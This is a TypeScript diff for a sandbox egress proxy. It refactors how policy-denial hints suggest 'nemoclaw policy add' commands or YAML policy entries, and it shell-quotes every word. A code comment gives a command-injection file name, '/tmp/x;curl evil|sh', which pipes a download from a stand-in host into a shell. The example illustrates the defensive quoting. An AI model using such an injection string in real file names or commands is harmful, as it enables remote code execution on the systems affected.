@@ -6,6 +6,7 @@ import { globEscape } from '../policy/index.ts';
 // (`/tmp/x;curl evil|sh` is a valid file name): every word goes through the one shared quoter.
 import { shellWord } from '../state/index.ts';
 import type { EgressDecision } from '../policy/index.ts';
+import type { SuggestedRule } from './types.ts';
 import { Refusal, baseEvent } from './context.ts';
 import type { ProxyContext, Req, Tracked } from './context.ts';
 import type { Target } from './target.ts';
@@ -20,7 +21,7 @@ export interface DenialText {
   error?: string;
   /** What rule would have allowed this (default: derived from the request). */
   missing?: string;
-  /** The command or change that would allow it (default: a `nemoclaw policy add` line). */
+  /** The command or change that would allow it (default: the proxy's ruleHint, or a `nemoclaw policy add` line). */
   hint?: string;
 }
 
@@ -32,7 +33,8 @@ export function denial(ctx: ProxyContext, t: Tracked, target: Target, d: Pick<Eg
     ? `a rule allowing ${req.method} ${req.path ?? '/'} on ${hostPort}${t.binary ? ` for ${t.binary}` : ''}`
     : `an endpoint ${hostPort}${t.binary ? ` for binary ${t.binary}` : ' (caller unknown)'}`;
   const access = !l7 || req?.method === undefined ? null : ['GET', 'HEAD', 'OPTIONS'].includes(req.method) ? 'read-only' : ['POST', 'PUT', 'PATCH'].includes(req.method) ? 'read-write' : 'full';
-  const hint = `nemoclaw policy add --sandbox ${shellWord(ctx.sandbox)} --name allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port} --host ${target.host} --port ${target.port}${t.binary ? ` --binary ${shellWord(globEscape(t.binary))}` : ''}${access ? ` --access ${access}` : ''}`;
+  const rule: SuggestedRule = { name: `allow_${target.host.replace(/[^A-Za-z0-9_]/g, '_')}_${target.port}`, host: target.host, port: target.port, binary: t.binary, access };
+  const hint = (ctx.opts.ruleHint ?? ((r) => policyAddCommand(ctx.sandbox, r)))(rule);
   return new Refusal(403, {
     error: text.error ?? 'policy_denied',
     host: target.host,
@@ -45,6 +47,21 @@ export function denial(ctx: ProxyContext, t: Tracked, target: Target, d: Pick<Eg
     reason: d.reason,
     hint: text.hint ?? hint,
   });
+}
+
+/** The `nemoclaw policy add` line that adds `r` to a supervised sandbox's policy. */
+export function policyAddCommand(sandbox: string, r: SuggestedRule): string {
+  return `nemoclaw policy add --sandbox ${shellWord(sandbox)} --name ${r.name} --host ${r.host} --port ${r.port}${r.binary ? ` --binary ${shellWord(globEscape(r.binary))}` : ''}${r.access ? ` --access ${r.access}` : ''}`;
+}
+
+/**
+ * The YAML a one-shot run's policy file needs for `r`: one `network_policies` entry in flow
+ * style, so the whole hint is one line that can be pasted under that key.
+ */
+export function policyFileRule(file: string | null, r: SuggestedRule): string {
+  const endpoint = `{ host: ${JSON.stringify(r.host)}, port: ${r.port}${r.access ? `, access: ${r.access}` : ''} }`;
+  const binaries = r.binary ? `, binaries: [{ path: ${JSON.stringify(globEscape(r.binary))} }]` : '';
+  return `add under network_policies in ${file ?? 'the --policy file'}: ${r.name}: { endpoints: [${endpoint}]${binaries} }`;
 }
 
 /**
